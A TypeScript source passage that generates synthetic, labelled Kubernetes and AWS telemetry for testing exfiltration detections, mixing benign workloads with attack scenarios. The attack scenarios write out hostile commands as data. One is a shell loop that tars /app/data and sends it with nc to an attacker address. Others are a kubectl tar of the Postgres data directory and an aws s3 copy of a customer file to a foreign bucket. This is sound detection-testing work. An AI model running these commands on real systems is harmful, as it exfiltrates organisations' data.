import {
  assumedRole,
  auditRecord,
  cloudTrailRecord,
  falcoAlert,
  iamUser,
  podObject,
  type TetragonProc,
  tetragonExec,
  tetragonExit,
  tetragonKprobe,
  VPC_FLOW_FIELDS,
  vpcFlowLine,
} from './formats.js';
import { Random } from './random.js';
import { batchWorkloads, Cluster, DEFAULT_WORLD, DESTINATIONS, defaultWorkloads, type Pod, type Workload, type WorldConfig } from './world.js';

const MINUTE = 60_000;
const HOUR = 3_600_000;

/** A labelled step of a scenario: what happened, when, and which analytics should catch it. */
export interface StepLabel {
  scenario: string;
  step: string;
  kind: 'attack' | 'benign';
  description: string;
  start: number;
  end: number;
  /** Workload key (`cluster/namespace/Kind/name`) the step is about, when it is about one. */
  workload?: string;
  /** Cloud or Kubernetes principal behind the step. */
  actor?: string;
  /** Analytic ids expected to fire on this step (empty for benign steps: anything firing there is a false positive). */
  expected: string[];
  /** Source ids of the records this step produced (audit auditID, CloudTrail eventID, Falco uuid). */
  evidence: { source: string; id: string }[];
}

export interface ScenarioDefinition {
  name: string;
  kind: 'benign' | 'attack';
  description: string;
  run(ctx: ScenarioContext): void;
}

/** One pod of the static inventory the generator writes, in the format of the preset's `inventory` file (`{ "pods": [...] }`). */
export interface InventoryEntry {
  cluster: string;
  namespace: string;
  pod: string;
  uid: string;
  workloadKind: string;
  workloadName: string;
  node: string;
  labels: Record<string, string>;
  containers: { name: string; id: string; image: string; imageDigest: string }[];
  ip: string;
  /** When the pod held its address (ISO 8601); addresses are reused after a pod ends. */
  validFrom: string;
  validTo?: string;
}

export interface GeneratedTelemetry {
  /** Kubernetes audit events, audit.k8s.io/v1, ordered by time. */
  audit: Record<string, unknown>[];
  /** CloudTrail records, ordered by time. */
  cloudtrail: Record<string, unknown>[];
  /** VPC flow log lines, the header first, ordered by end time. */
  vpcFlow: string[];
  falco: Record<string, unknown>[];
  tetragon: Record<string, unknown>[];
  inventory: InventoryEntry[];
  labels: StepLabel[];
  /** A `t1537` preset configuration describing this organisation (accounts, cluster ranges, trusted registries, backup exception). */
  presetConfig: Record<string, unknown>;
  meta: { seed: number; start: number; end: number; hours: number; scenarios: string[]; world: WorldConfig; counts: Record<string, number> };
}

export interface ScenarioOptions {
  /** PRNG seed; identical options give identical output. Default 1. */
  seed?: number;
  /** Start of the simulated period, epoch ms. Default 2024-03-04T00:00:00Z (a Monday). */
  start?: number;
  /** Length of the simulated period. Default 6. */
  hours?: number;
  /** Scale of the background: number of extra web services. Default 1. */
  workloads?: number;
  /** Scenario names; default every benign scenario and `exfil_chain`. */
  scenarios?: string[];
  /** Fraction of the period after which attacks begin (learning happens before). Default 0.75. */
  attackAt?: number;
  world?: Partial<WorldConfig>;
}

interface Timed<T> {
  time: number;
  seq: number;
  value: T;
}

/** Collects records of every source and attributes them to the step being recorded. */
export class Recorder {
  private seq = 0;
  readonly audit: Timed<Record<string, unknown>>[] = [];
  readonly cloudtrail: Timed<Record<string, unknown>>[] = [];
  readonly vpc: Timed<string>[] = [];
  readonly falco: Timed<Record<string, unknown>>[] = [];
  readonly tetragon: Timed<Record<string, unknown>>[] = [];
  readonly labels: StepLabel[] = [];
  private current: StepLabel | undefined;

  step(label: Omit<StepLabel, 'evidence' | 'end'> & { end?: number }, body: () => void): StepLabel {
    const full: StepLabel = { ...label, end: label.end ?? label.start, evidence: [] };
    const previous = this.current;
    this.current = full;
    try {
      body();
    } finally {
      this.current = previous;
    }
    this.labels.push(full);
    return full;
  }

  private note(time: number, source: string, id?: string): void {
    if (!this.current) return;
    if (time > this.current.end) this.current.end = time;
    if (id) this.current.evidence.push({ source, id });
  }

  addAudit(time: number, record: Record<string, unknown> & { auditID: string }): void {
    this.audit.push({ time, seq: this.seq++, value: record });
    this.note(time, 'k8s_audit', record.auditID);
  }

  addCloudTrail(time: number, record: Record<string, unknown> & { eventID: string }): void {
    this.cloudtrail.push({ time, seq: this.seq++, value: record });
    this.note(time, 'aws_cloudtrail', record.eventID);
  }

  addFlow(end: number, line: string): void {
    this.vpc.push({ time: end, seq: this.seq++, value: line });
    this.note(end, 'aws_vpc_flow');
  }

  addFalco(time: number, record: Record<string, unknown> & { uuid: string }): void {
    this.falco.push({ time, seq: this.seq++, value: record });
    this.note(time, 'falco', record.uuid);
  }

  addTetragon(time: number, record: Record<string, unknown>): void {
    this.tetragon.push({ time, seq: this.seq++, value: record });
    this.note(time, 'tetragon');
  }
}

export interface ScenarioContext {
  world: WorldConfig;
  rng: Random;
  rec: Recorder;
  cluster: Cluster;
  start: number;
  end: number;
  /** When attack scenarios begin. */
  attackAt: number;
  workloads: Workload[];
  /** Workload key for a pod, as the detections key workloads. */
  keyOf(pod: Pod): string;
  /** Emit the network flows of one conversation summarized over [start, end). */
  conversation(c: Conversation): void;
  /** Emit a process tree in a pod through Tetragon (exec, optional kprobes, exit). */
  process(
    pod: Pod,
    time: number,
    binary: string,
    args: string,
    options?: { tty?: boolean; parent?: TetragonProc; durationMs?: number; kprobes?: (proc: TetragonProc, parent: TetragonProc) => void },
  ): TetragonProc;
  /** A pod's lifecycle as the audit log records it (create + status with its IP), and optionally its end. */
  podLifecycle(pod: Pod, creator: { username: string; groups?: string[] }, options?: { stop?: number }): void;
  /** Diurnal activity factor in [0.25, 1]. */
  diurnal(time: number): number;
}

export interface Conversation {
  start: number;
  end: number;
  src: { pod?: Pod; address?: string; port?: number };
  dst: { pod?: Pod; address?: string; port: number; service?: string };
  /** Bytes src → dst and dst → src over the whole conversation. */
  bytes: number;
  replyBytes: number;
  /** Split into one flow record per this many ms (VPC aggregation interval). Default 60 000. */
  intervalMs?: number;
  protocol?: number;
}

const processCounter = { next: 1000 };

function createContext(
  world: WorldConfig,
  rng: Random,
  rec: Recorder,
  start: number,
  end: number,
  attackAt: number,
  workloads: Workload[],
  cluster: Cluster,
): ScenarioContext {
  const keyOf = (pod: Pod) => `${world.cluster}/${pod.namespace}/${pod.workloadKind}/${pod.workloadName}`;
  const ctx: ScenarioContext = {
    world,
    rng,
    rec,
    cluster,
    start,
    end,
    attackAt,
    workloads,
    keyOf,
    diurnal(time) {
      const hour = new Date(time).getUTCHours() + new Date(time).getUTCMinutes() / 60;
      return 0.25 + 0.75 * ((Math.sin(((hour - 8) / 24) * 2 * Math.PI) + 1) / 2);
    },
    conversation(c) {
      const interval = c.intervalMs ?? MINUTE;
      const slices = Math.max(1, Math.ceil((c.end - c.start) / interval));
      const srcAddress = c.src.pod?.ip ?? c.src.address ?? '0.0.0.0';
      const dstAddress = c.dst.pod?.ip ?? c.dst.address ?? '0.0.0.0';
      const srcPort = c.src.port ?? rng.int(32768, 60999);
      for (let i = 0; i < slices; i++) {
        const s = c.start + i * interval;
        const e = Math.min(c.end, s + interval);
        const share = 1 / slices;
        const bytes = c.bytes * share;
        const reply = c.replyBytes * share;
        const pkts = (b: number) => Math.max(1, Math.ceil(b / 1400));
        if (c.src.pod) {
          rec.addFlow(
            e,
            vpcFlowLine(world, {
              start: s,
              end: e,
              src: srcAddress,
              dst: dstAddress,
              srcPort,
              dstPort: c.dst.port,
              packets: pkts(bytes),
              bytes,
              eni: c.src.pod.eni,
              direction: 'egress',
              dstService: c.dst.service,
              trafficPath: c.dst.pod ? 1 : 8,
              ...(c.protocol ? { protocol: c.protocol } : {}),
            }),
          );
          rec.addFlow(
            e,
            vpcFlowLine(world, {
              start: s,
              end: e,
              src: dstAddress,
              dst: srcAddress,
              srcPort: c.dst.port,
              dstPort: srcPort,
              packets: pkts(reply),
              bytes: reply,
              eni: c.src.pod.eni,
              direction: 'ingress',
              ...(c.protocol ? { protocol: c.protocol } : {}),
            }),
          );
        } else if (c.dst.pod) {
          rec.addFlow(
            e,
            vpcFlowLine(world, {
              start: s,
              end: e,
              src: srcAddress,
              dst: dstAddress,
              srcPort,
              dstPort: c.dst.port,
              packets: pkts(bytes),
              bytes,
              eni: c.dst.pod.eni,
              direction: 'ingress',
              ...(c.protocol ? { protocol: c.protocol } : {}),
            }),
          );
          rec.addFlow(
            e,
            vpcFlowLine(world, {
              start: s,
              end: e,
              src: dstAddress,
              dst: srcAddress,
              srcPort: c.dst.port,
              dstPort: srcPort,
              packets: pkts(reply),
              bytes: reply,
              eni: c.dst.pod.eni,
              direction: 'egress',
              ...(c.protocol ? { protocol: c.protocol } : {}),
            }),
          );
        }
      }
    },
    process(pod, time, binary, args, options = {}) {
      const parent: TetragonProc = options.parent ?? {
        execId: rng.hex(24),
        parentExecId: rng.hex(24),
        pid: 1,
        binary: '/usr/bin/containerd-shim-runc-v2',
        arguments: '',
        start: pod.start,
      };
      const proc: TetragonProc = {
        execId: rng.hex(24),
        parentExecId: parent.execId,
        pid: processCounter.next++,
        binary,
        arguments: args,
        start: time,
        ...(options.tty ? { tty: true } : {}),
      };
      rec.addTetragon(time, tetragonExec(pod, proc, parent));
      options.kprobes?.(proc, parent);
      rec.addTetragon(time + (options.durationMs ?? 200), tetragonExit(pod, proc, parent, time + (options.durationMs ?? 200)));
      return proc;
    },
    podLifecycle(pod, creator, options = {}) {
      rec.addAudit(
        pod.start,
        auditRecord(rng, {
          time: pod.start,
          verb: 'create',
          user: creator,
          resource: 'pods',
          namespace: pod.namespace,
          name: pod.name,
          requestObject: podObject(pod, 'Pending'),
          responseObject: podObject(pod, 'Pending'),
          userAgent: 'kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/system:serviceaccount:kube-system:replicaset-controller',
        }),
      );
      const running = pod.start + 2_000;
      rec.addAudit(
        running,
        auditRecord(rng, {
          time: running,
          verb: 'patch',
          user: { username: `system:node:${pod.node}`, groups: ['system:nodes', 'system:authenticated'] },
          resource: 'pods',
          subresource: 'status',
          namespace: pod.namespace,
          name: pod.name,
          responseObject: podObject(pod),
          sourceIp: pod.nodeIp,
          userAgent: 'kubelet/v1.29.3 (linux/amd64) kubernetes/6813625',
        }),
      );
      if (options.stop !== undefined) {
        cluster.stopPod(pod, options.stop);
        rec.addAudit(
          options.stop,
          auditRecord(rng, {
            time: options.stop,
            verb: 'delete',
            user: { username: `system:node:${pod.node}`, groups: ['system:nodes', 'system:authenticated'] },
            resource: 'pods',
            namespace: pod.namespace,
            name: pod.name,
            sourceIp: pod.nodeIp,
            userAgent: 'kubelet/v1.29.3 (linux/amd64) kubernetes/6813625',
          }),
        );
      }
    },
  };
  return ctx;
}

const controller = (name: string) => ({
  username: `system:serviceaccount:kube-system:${name}`,
  groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'],
});
const SRE = { username: 'maria.sre@acme.example', groups: ['sre', 'system:authenticated'] };
const ATTACKER = { username: 'dev-contractor@acme.example', groups: ['developers', 'system:authenticated'] };

/** Background traffic of the web services; always part of a generated period. */
function background(ctx: ScenarioContext): void {
  const { rng, rec, cluster, start, end, workloads } = ctx;
  // Pods exist from the start; their lifecycle is in the audit log just before the period.
  for (const w of workloads) {
    for (let i = 0; i < w.replicas; i++) {
      const pod = cluster.startPod(w, start - 10 * MINUTE + i * 1000);
      ctx.podLifecycle(pod, controller('replicaset-controller'));
    }
  }
  const svc = (name: string) => workloads.find((w) => w.name === name) as Workload;
  const api = svc('api');
  const postgres = svc('postgres');
  for (let t = start; t < end; t += MINUTE) {
    const load = ctx.diurnal(t);
    for (const pod of cluster.alive('frontend', t)) {
      ctx.conversation({
        start: t,
        end: t + MINUTE,
        src: { address: rng.pick(DESTINATIONS.loadBalancer) },
        dst: { pod, port: 8080 },
        bytes: rng.logNormal(400_000 * load, 0.3),
        replyBytes: rng.logNormal(3_000_000 * load, 0.3),
      });
      ctx.conversation({
        start: t,
        end: t + MINUTE,
        src: { pod },
        dst: { address: api.serviceIp as string, port: 8080 },
        bytes: rng.logNormal(200_000 * load, 0.3),
        replyBytes: rng.logNormal(900_000 * load, 0.3),
      });
    }
    for (const pod of cluster.alive('api', t)) {
      ctx.conversation({
        start: t,
        end: t + MINUTE,
        src: { pod },
        dst: { address: postgres.serviceIp as string, port: 5432 },
        bytes: rng.logNormal(80_000 * load, 0.3),
        replyBytes: rng.logNormal(600_000 * load, 0.3),
      });
      if (rng.chance(0.5))
        ctx.conversation({
          start: t,
          end: t + MINUTE,
          src: { pod },
          dst: { address: DESTINATIONS.s3.addresses[0], port: 443, service: 'S3' },
          bytes: rng.logNormal(20_000 * load, 0.4),
          replyBytes: rng.logNormal(400_000 * load, 0.4),
        });
    }
    for (const pod of cluster.alive('checkout', t)) {
      ctx.conversation({
        start: t,
        end: t + MINUTE,
        src: { pod },
        dst: { address: DESTINATIONS.paymentApi.address, port: 443 },
        bytes: rng.logNormal(30_000 * load, 0.3),
        replyBytes: rng.logNormal(12_000 * load, 0.3),
      });
      ctx.conversation({
        start: t,
        end: t + MINUTE,
        src: { pod },
        dst: { address: api.serviceIp as string, port: 8080 },
        bytes: rng.logNormal(40_000 * load, 0.3),
        replyBytes: rng.logNormal(90_000 * load, 0.3),
      });
    }
    for (const w of workloads.filter((x) => x.name.startsWith('catalog-'))) {
      for (const pod of cluster.alive(w.name, t)) {
        ctx.conversation({
          start: t,
          end: t + MINUTE,
          src: { pod },
          dst: { address: api.serviceIp as string, port: 8080 },
          bytes: rng.logNormal(60_000 * load, 0.3),
          replyBytes: rng.logNormal(200_000 * load, 0.3),
        });
      }
    }
    for (const pod of cluster.alive('metrics-agent', t)) {
      ctx.conversation({
        start: t,
        end: t + MINUTE,
        src: { pod },
        dst: { address: DESTINATIONS.metricsSaas.address, port: 443 },
        bytes: rng.logNormal(250_000, 0.15),
        replyBytes: rng.logNormal(8_000, 0.2),
      });
    }
    // Controllers and kubelets talk to the API server all the time (a sample of it).
    if (rng.chance(0.3)) {
      const at = t + rng.int(0, 59_000);
      rec.addAudit(
        at,
        auditRecord(rng, {
          time: at,
          verb: 'list',
          user: controller('endpointslice-controller'),
          resource: 'endpoints',
          sourceIp: '10.20.0.5',
          userAgent: 'kube-controller-manager/v1.29.3',
        }),
      );
    }
    if (rng.chance(0.2)) {
      const at = t + rng.int(0, 59_000);
      rec.addAudit(
        at,
        auditRecord(rng, { time: at, verb: 'get', user: controller('coredns'), resource: 'configmaps', namespace: 'kube-system', name: 'coredns' }),
      );
    }
    // Cloud monitoring reads the account every few minutes.
    if (t % (5 * MINUTE) === 0) {
      rec.addCloudTrail(
        t + 7_000,
        cloudTrailRecord(rng, {
          time: t + 7_000,
          eventSource: 'ec2.amazonaws.com',
          eventName: 'DescribeInstances',
          identity: assumedRole(rng, ctx.world.account, 'monitoring-reader', 'prometheus-exporter'),
          account: ctx.world.account,
          region: ctx.world.region,
          readOnly: true,
        }),
      );
    }
  }
}

function hourlyTimes(ctx: ScenarioContext, minute: number): number[] {
  const out: number[] = [];
  const first = Math.ceil(ctx.start / HOUR) * HOUR + minute * MINUTE;
  for (let t = first; t < ctx.end; t += HOUR) out.push(t);
  return out;
}

export const SCENARIOS: Record<string, ScenarioDefinition> = {
  web_services: {
    name: 'web_services',
    kind: 'benign',
    description: 'Frontend, API, checkout and catalog services serving diurnal traffic, with their calls to a payment provider, S3 and a metrics SaaS.',
    run(ctx) {
      const label = { scenario: 'web_services', kind: 'benign' as const, expected: [], start: ctx.start, end: ctx.end };
      for (const name of ['frontend', 'api', 'checkout']) {
        const pod = ctx.cluster.alive(name, ctx.start)[0];
        ctx.rec.step({ ...label, step: `${name}_traffic`, description: `${name} serving requests`, ...(pod ? { workload: ctx.keyOf(pod) } : {}) }, () => {});
      }
    },
  },
  batch_jobs: {
    name: 'batch_jobs',
    kind: 'benign',
    description: 'An hourly ETL CronJob: reads Postgres, writes an extract to our assets bucket, exits.',
    run(ctx) {
      const etl = batchWorkloads(ctx.world).etl as Workload;
      const postgres = ctx.workloads.find((w) => w.name === 'postgres') as Workload;
      for (const t of hourlyTimes(ctx, 5)) {
        const pod = ctx.cluster.startPod(etl, t);
        const stop = t + 6 * MINUTE;
        ctx.rec.step(
          {
            scenario: 'batch_jobs',
            step: 'etl_run',
            kind: 'benign',
            description: 'hourly ETL extract to our assets bucket',
            start: t,
            end: stop,
            workload: ctx.keyOf(pod),
            expected: [],
          },
          () => {
            ctx.podLifecycle(pod, controller('job-controller'), { stop });
            ctx.process(pod, t + 5_000, '/usr/local/bin/etl', '--from postgres --to s3://acme-prod-assets/extracts/', { durationMs: 5 * MINUTE });
            ctx.conversation({
              start: t + 5_000,
              end: t + 3 * MINUTE,
              src: { pod },
              dst: { address: postgres.serviceIp as string, port: 5432 },
              bytes: 2_000_000,
              replyBytes: 60_000_000,
            });
            ctx.conversation({
              start: t + 3 * MINUTE,
              end: t + 5 * MINUTE,
              src: { pod },
              dst: { address: DESTINATIONS.s3.addresses[1], port: 443, service: 'S3' },
              bytes: 45_000_000,
              replyBytes: 300_000,
            });
            const key = `extracts/${new Date(t).toISOString().slice(0, 13)}.parquet`;
            ctx.rec.addCloudTrail(
              t + 4 * MINUTE,
              cloudTrailRecord(ctx.rng, {
                time: t + 4 * MINUTE,
                eventSource: 's3.amazonaws.com',
                eventName: 'PutObject',
                identity: assumedRole(ctx.rng, ctx.world.account, 'etl-writer', 'botocore-session-1'),
                account: ctx.world.account,
                region: ctx.world.region,
                sourceIp: pod.ip,
                managementEvent: false,
                requestParameters: { bucketName: ctx.world.assetsBucket, key, Host: `${ctx.world.assetsBucket}.s3.${ctx.world.region}.amazonaws.com` },
                resources: [
                  { type: 'AWS::S3::Object', ARN: `arn:aws:s3:::${ctx.world.assetsBucket}/${key}` },
                  { accountId: ctx.world.account, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${ctx.world.assetsBucket}` },
                ],
              }),
            );
          },
        );
      }
    },
  },
  nightly_backup: {
    name: 'nightly_backup',
    kind: 'benign',
    description:
      "The nightly backup: `aws s3 sync` of several GB to the organisation's own S3 bucket, and an EBS snapshot of the database volume (not shared).",
    run(ctx) {
      const backup = batchWorkloads(ctx.world).backup as Workload;
      const day = Math.floor(ctx.start / (24 * HOUR)) * 24 * HOUR;
      let at = day + 2 * HOUR;
      if (at < ctx.start || at > ctx.end - 45 * MINUTE) at = ctx.start + Math.floor((ctx.end - ctx.start) * 0.4);
      const pod = ctx.cluster.startPod(backup, at);
      const stop = at + 40 * MINUTE;
      ctx.rec.step(
        {
          scenario: 'nightly_backup',
          step: 'backup_upload',
          kind: 'benign',
          description: 'aws s3 sync of the database dump to the backup bucket we own',
          start: at,
          end: stop,
          workload: ctx.keyOf(pod),
          expected: [],
        },
        () => {
          ctx.podLifecycle(pod, controller('job-controller'), { stop });
          const sync = ctx.process(
            pod,
            at + 10_000,
            '/usr/local/bin/aws',
            `s3 sync /backup s3://${ctx.world.backupBucket}/postgres/${new Date(at).toISOString().slice(0, 10)}/`,
            { durationMs: 30 * MINUTE },
          );
          void sync;
          for (const [i, address] of DESTINATIONS.s3.addresses.entries()) {
            ctx.conversation({
              start: at + MINUTE,
              end: at + 31 * MINUTE,
              src: { pod },
              dst: { address, port: 443, service: 'S3' },
              bytes: 1_600_000_000 + i * 10_000_000,
              replyBytes: 4_000_000,
            });
          }
          for (let part = 0; part < 12; part++) {
            const t = at + MINUTE + part * 2 * MINUTE;
            const key = `postgres/${new Date(at).toISOString().slice(0, 10)}/base.tar.part${part}`;
            ctx.rec.addCloudTrail(
              t,
              cloudTrailRecord(ctx.rng, {
                time: t,
                eventSource: 's3.amazonaws.com',
                eventName: 'PutObject',
                identity: assumedRole(ctx.rng, ctx.world.account, 'backup-writer', 'aws-cli-backup'),
                account: ctx.world.account,
                region: ctx.world.region,
                sourceIp: pod.ip,
                userAgent: 'aws-cli/2.15.30 md/command#s3.sync',
                managementEvent: false,
                requestParameters: { bucketName: ctx.world.backupBucket, key, Host: `${ctx.world.backupBucket}.s3.${ctx.world.region}.amazonaws.com` },
                resources: [
                  { type: 'AWS::S3::Object', ARN: `arn:aws:s3:::${ctx.world.backupBucket}/${key}` },
                  { accountId: ctx.world.account, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${ctx.world.backupBucket}` },
                ],
              }),
            );
          }
          const snapTime = at + 35 * MINUTE;
          ctx.rec.addCloudTrail(
            snapTime,
            cloudTrailRecord(ctx.rng, {
              time: snapTime,
              eventSource: 'ec2.amazonaws.com',
              eventName: 'CreateSnapshot',
              identity: assumedRole(ctx.rng, ctx.world.account, 'backup-writer', 'aws-cli-backup'),
              account: ctx.world.account,
              region: ctx.world.region,
              sourceIp: pod.ip,
              requestParameters: { volumeId: 'vol-0db0000000000000a', description: 'nightly postgres volume snapshot' },
              responseElements: { snapshotId: 'snap-0nightly000000001', volumeId: 'vol-0db0000000000000a', status: 'pending', ownerId: ctx.world.account },
            }),
          );
        },
      );
    },
  },
  ci_pulls: {
    name: 'ci_pulls',
    kind: 'benign',
    description: 'CI runners pulling images from our registry and a public registry, and creating build pods from trusted images.',
    run(ctx) {
      const ci = batchWorkloads(ctx.world).ci as Workload;
      const runner = ctx.cluster.startPod(ci, ctx.start - 5 * MINUTE);
      ctx.podLifecycle(runner, controller('replicaset-controller'));
      for (let t = ctx.start + 13 * MINUTE; t < ctx.end; t += 37 * MINUTE) {
        ctx.rec.step(
          {
            scenario: 'ci_pulls',
            step: 'image_pull',
            kind: 'benign',
            description: 'CI build pulls images',
            start: t,
            end: t + 4 * MINUTE,
            workload: ctx.keyOf(runner),
            expected: [],
          },
          () => {
            ctx.conversation({
              start: t,
              end: t + 3 * MINUTE,
              src: { pod: runner },
              dst: { address: DESTINATIONS.ecr.address, port: 443, service: 'AMAZON' },
              bytes: 300_000,
              replyBytes: 450_000_000,
            });
            ctx.conversation({
              start: t,
              end: t + 2 * MINUTE,
              src: { pod: runner },
              dst: { address: DESTINATIONS.dockerHub.address, port: 443 },
              bytes: 100_000,
              replyBytes: 120_000_000,
            });
            ctx.process(runner, t + 1000, '/usr/bin/buildah', `bud -t ${ctx.world.registry}/shop/api:ci-${ctx.rng.hex(7)} .`, { durationMs: 3 * MINUTE });
          },
        );
      }
    },
  },
  admin_ops: {
    name: 'admin_ops',
    kind: 'benign',
    description: 'An SRE reading pods, logs and events with kubectl during working hours.',
    run(ctx) {
      for (let t = ctx.start + 20 * MINUTE; t < ctx.end; t += 53 * MINUTE) {
        const pod = ctx.cluster.alive('api', t)[0];
        if (!pod) continue;
        ctx.rec.step(
          {
            scenario: 'admin_ops',
            step: 'kubectl_reads',
            kind: 'benign',
            description: 'kubectl get/logs by an SRE',
            start: t,
            end: t + MINUTE,
            actor: SRE.username,
            expected: [],
          },
          () => {
            ctx.rec.addAudit(t, auditRecord(ctx.rng, { time: t, verb: 'list', user: SRE, resource: 'pods', namespace: 'shop', sourceIp: '192.0.2.50' }));
            ctx.rec.addAudit(
              t + 5_000,
              auditRecord(ctx.rng, {
                time: t + 5_000,
                verb: 'get',
                user: SRE,
                resource: 'pods',
                subresource: 'log',
                namespace: 'shop',
                name: pod.name,
                sourceIp: '192.0.2.50',
              }),
            );
            ctx.rec.addAudit(
              t + 9_000,
              auditRecord(ctx.rng, { time: t + 9_000, verb: 'list', user: SRE, resource: 'events', namespace: 'shop', sourceIp: '192.0.2.50' }),
            );
          },
        );
      }
    },
  },
  exfil_chain: {
    name: 'exfil_chain',
    kind: 'attack',
    description:
      "The strategy's chain: a pod from an untrusted image, `kubectl exec` into it, secrets read, `tar` of application data, an upload with curl to an external address, and an EBS snapshot shared with a foreign account that then copies it.",
    run(ctx) {
      attackChain(ctx, { scenario: 'exfil_chain', tool: 'curl', destination: DESTINATIONS.attacker, bytes: 2_400_000_000, minutes: 8 });
    },
  },
  exfil_netcat: {
    name: 'exfil_netcat',
    kind: 'attack',
    description: 'Variant of the chain: the archive leaves with netcat to another external address on a non-TLS port.',
    run(ctx) {
      attackChain(ctx, { scenario: 'exfil_netcat', tool: 'nc', destination: DESTINATIONS.attackerAlt, bytes: 900_000_000, minutes: 5, skipCloud: true });
    },
  },
  slow_exfil: {
    name: 'slow_exfil',
    kind: 'attack',
    description: 'A compromised API pod trickles data to a never-seen external address for hours, each flow small (below any single-flow threshold).',
    run(ctx) {
      const pod = ctx.cluster.alive('api', ctx.attackAt)[0];
      if (!pod) return;
      const begin = ctx.start + Math.floor((ctx.end - ctx.start) * 0.5);
      const dst = DESTINATIONS.attackerAlt;
      ctx.rec.step(
        {
          scenario: 'slow_exfil',
          step: 'exec',
          kind: 'attack',
          description: 'kubectl exec into the API pod starting a background loop',
          start: begin,
          workload: ctx.keyOf(pod),
          actor: ATTACKER.username,
          expected: ['pod_exec', 'exec_payload'],
        },
        () => {
          const cmd = ['sh', '-c', `while true; do tar czf - /app/data | nc ${dst.address} ${dst.port}; sleep 60; done`];
          ctx.rec.addAudit(
            begin,
            auditRecord(ctx.rng, {
              time: begin,
              verb: 'create',
              user: ATTACKER,
              resource: 'pods',
              subresource: 'exec',
              namespace: pod.namespace,
              name: pod.name,
              query: `${cmd.map((c) => `command=${encodeURIComponent(c)}`).join('&')}&container=${pod.container}&stderr=true&stdout=true`,
              sourceIp: '198.51.100.200',
            }),
          );
          ctx.process(pod, begin + 1000, '/bin/sh', cmd.slice(1).join(' '), { durationMs: ctx.end - begin - 2000 });
        },
      );
      const end = ctx.end - 5 * MINUTE;
      ctx.rec.step(
        {
          scenario: 'slow_exfil',
          step: 'trickle',
          kind: 'attack',
          description: 'small periodic transfers to a never-seen destination',
          start: begin + MINUTE,
          end,
          workload: ctx.keyOf(pod),
          expected: ['new_external_destination', 'egress_volume_anomaly', 'exec_payload'],
        },
        () => {
          for (let t = begin + MINUTE; t < end; t += 2 * MINUTE) {
            ctx.conversation({
              start: t,
              end: t + 30_000,
              src: { pod },
              dst: { address: dst.address, port: dst.port },
              bytes: ctx.rng.logNormal(2_500_000, 0.2),
              replyBytes: 2_000,
              intervalMs: 30_000,
            });
          }
        },
      );
    },
  },
  kubectl_cp: {
    name: 'kubectl_cp',
    kind: 'attack',
    description: '`kubectl cp` of the database directory out of the Postgres pod (an exec running `tar cf -`).',
    run(ctx) {
      const pod = ctx.cluster.alive('postgres', ctx.attackAt)[0];
      if (!pod) return;
      const t = ctx.attackAt + 20 * MINUTE;
      ctx.rec.step(
        {
          scenario: 'kubectl_cp',
          step: 'kubectl_cp',
          kind: 'attack',
          description: 'kubectl cp data/postgres-0:/var/lib/postgresql/data ./loot',
          start: t,
          workload: ctx.keyOf(pod),
          actor: ATTACKER.username,
          expected: ['kubectl_cp', 'pod_exec', 'exec_payload'],
        },
        () => {
          const cmd = ['tar', 'cf', '-', '-C', '/var/lib/postgresql', 'data'];
          ctx.rec.addAudit(
            t,
            auditRecord(ctx.rng, {
              time: t,
              verb: 'create',
              user: ATTACKER,
              resource: 'pods',
              subresource: 'exec',
              namespace: pod.namespace,
              name: pod.name,
              query: `${cmd.map((c) => `command=${encodeURIComponent(c)}`).join('&')}&container=${pod.container}&stderr=true&stdout=true`,
              sourceIp: '198.51.100.200',
            }),
          );
          ctx.process(pod, t + 800, '/bin/tar', cmd.slice(1).join(' '), { durationMs: 4 * MINUTE });
        },
      );
    },
  },
  exfil_foreign_bucket: {
    name: 'exfil_foreign_bucket',
    kind: 'attack',
    description:
      'kubectl exec into the ETL pod and `aws s3 cp` of an extract to a bucket of an account we do not own: a large transfer to cloud storage that is not ours.',
    run(ctx) {
      const etl = batchWorkloads(ctx.world).etl as Workload;
      const t = ctx.attackAt + 25 * MINUTE;
      const pod = ctx.cluster.startPod(etl, t - 2 * MINUTE);
      const bucket = `exfil-drop-${ctx.world.foreignAccount}`;
      ctx.podLifecycle(pod, controller('job-controller'), { stop: t + 20 * MINUTE });
      ctx.rec.step(
        {
          scenario: 'exfil_foreign_bucket',
          step: 'exec',
          kind: 'attack',
          description: 'kubectl exec into the ETL job pod',
          start: t,
          workload: ctx.keyOf(pod),
          actor: ATTACKER.username,
          expected: ['pod_exec'],
        },
        () => {
          ctx.rec.addAudit(
            t,
            auditRecord(ctx.rng, {
              time: t,
              verb: 'create',
              user: ATTACKER,
              resource: 'pods',
              subresource: 'exec',
              namespace: pod.namespace,
              name: pod.name,
              query: `command=sh&container=${pod.container}&stdin=true&stdout=true&tty=true`,
              sourceIp: '198.51.100.200',
            }),
          );
        },
      );
      const tCopy = t + 3 * MINUTE;
      ctx.rec.step(
        {
          scenario: 'exfil_foreign_bucket',
          step: 'foreign_bucket_upload',
          kind: 'attack',
          description: `aws s3 cp of an extract to s3://${bucket}/ (a bucket of account ${ctx.world.foreignAccount})`,
          start: tCopy,
          end: tCopy + 6 * MINUTE,
          workload: ctx.keyOf(pod),
          actor: ATTACKER.username,
          expected: ['cloud_storage_foreign_transfer', 'exec_payload', 'egress_volume_anomaly'],
        },
        () => {
          ctx.process(pod, tCopy, '/usr/local/bin/aws', `s3 cp /tmp/customers.csv.gz s3://${bucket}/2024/`, { tty: true, durationMs: 6 * MINUTE });
          ctx.conversation({
            start: tCopy,
            end: tCopy + 6 * MINUTE,
            src: { pod },
            dst: { address: DESTINATIONS.s3.addresses[2], port: 443, service: 'S3' },
            bytes: 1_300_000_000,
            replyBytes: 2_000_000,
          });
        },
      );
    },
  },
  cloud_shares: {
    name: 'cloud_shares',
    kind: 'attack',
    description: 'From stolen keys: an AMI made public, an RDS snapshot shared with a foreign account, and a bucket policy granting the foreign account read.',
    run(ctx) {
      const t = ctx.attackAt + 30 * MINUTE;
      const identity = iamUser(ctx.rng, ctx.world.account, 'legacy-deployer');
      const actor = `arn:aws:iam::${ctx.world.account}:user/legacy-deployer`;
      const record = (time: number, eventSource: string, eventName: string, requestParameters: unknown, responseElements: unknown = null) =>
        ctx.rec.addCloudTrail(
          time,
          cloudTrailRecord(ctx.rng, {
            time,
            eventSource,
            eventName,
            identity,
            account: ctx.world.account,
            region: ctx.world.region,
            sourceIp: '203.0.113.77',
            userAgent: 'aws-cli/2.15.30',
            requestParameters,
